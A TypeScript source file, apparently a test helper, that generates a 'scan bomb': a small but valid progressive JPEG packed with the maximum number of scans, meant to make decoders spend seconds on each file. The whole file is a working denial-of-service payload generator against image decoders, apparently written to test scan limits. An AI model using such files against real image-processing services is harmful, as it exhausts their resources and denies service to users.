/** What `scanBomb` writes: one of DC coefficients, and 14 of each of the 63 others, bit by bit. */
export const BOMB_SCANS = 1 + 63 * 14;

/**
 * A sound progressive JPEG, grey all over, with as many scans as the format allows for one component. Each runs over every
 * block, so that a file of 1 kB a megapixel takes a decoder seconds.
 */
export function scanBomb(side: number): Buffer {
  const blocks = Math.ceil(side / 8) ** 2;
  const runs = endOfBandRuns(blocks);
  const sizes = [...new Set(runs.map(({ size }) => size))].sort((a, b) => a - b);
  const empty = bytesOfBits(runs.map(({ size, rest }) => bits(sizes.indexOf(size), 2) + bits(rest, size)).join(""));
  const bands = Array.from({ length: 63 }, (_, index) => index + 1);
  const scans = bands.flatMap((band) =>
    Array.from({ length: 14 }, (_, index) => {
      const low = 13 - index;
      const high = index === 0 ? 0 : low + 1;
      return [segment(0xda, [1, 1, 0, band, band, (high << 4) | low]), empty];
    }),
  );
  return Buffer.concat([
    Buffer.of(0xff, 0xd8),
    segment(0xdb, [0, ...Array<number>(64).fill(8)]),
    segment(0xc2, [8, side >> 8, side & 255, side >> 8, side & 255, 1, 1, 0x11, 0]),
    // DC differences of no bits, as "00"; runs of blocks without coefficients.
    segment(0xc4, [0x00, 0, 1, ...Array<number>(14).fill(0), 0]),
    segment(0xc4, [0x10, 0, sizes.length, ...Array<number>(14).fill(0), ...sizes.map((size) => size << 4)]),
    segment(0xda, [1, 1, 0, 0, 0, 0]),
    bytesOfBits("00".repeat(blocks)),
    ...scans.flat(),
    Buffer.of(0xff, 0xd9),
  ]);
}

/** As few runs as make so many blocks: each of 2^size blocks and some more, which `size` bits tell. */
function endOfBandRuns(blocks: number): { size: number; rest: number }[] {
  const runs: { size: number; rest: number }[] = [];
  for (let left = blocks; left > 0; ) {
    const size = Math.min(14, Math.floor(Math.log2(left)));
    const taken = Math.min(left, 2 ** (size + 1) - 1);
    runs.push({ size, rest: taken - 2 ** size });
    left -= taken;
  }
  return runs;
}

function segment(marker: number, data: readonly number[]): Buffer {
  const length = data.length + 2;
  return Buffer.from([0xff, marker, length >> 8, length & 255, ...data]);
}

const bits = (value: number, count: number) => (count === 0 ? "" : value.toString(2).padStart(count, "0"));

/** Padded with ones, and a 0 after each 0xff, as in compressed data. */
function bytesOfBits(text: string): Buffer {
  const bytes = text.match(/.{1,8}/g)!.map((byte) => Number.parseInt(byte.padEnd(8, "1"), 2));
  return Buffer.from(bytes.flatMap((byte) => (byte === 0xff ? [byte, 0] : [byte])));
}
